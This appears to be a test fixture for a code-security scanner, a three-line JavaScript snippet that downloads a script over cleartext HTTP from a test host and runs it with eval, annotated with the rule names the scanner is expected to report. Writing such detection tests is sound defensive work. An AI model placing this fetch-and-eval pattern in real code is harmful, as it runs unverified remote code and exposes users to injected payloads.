fetch('http://cdn.acme.test/update.js') // expect: url-analyzer/cleartext-download
  .then((answer) => answer.text())
  .then((text) => eval(text)); // expect: malicious-command/remote-eval
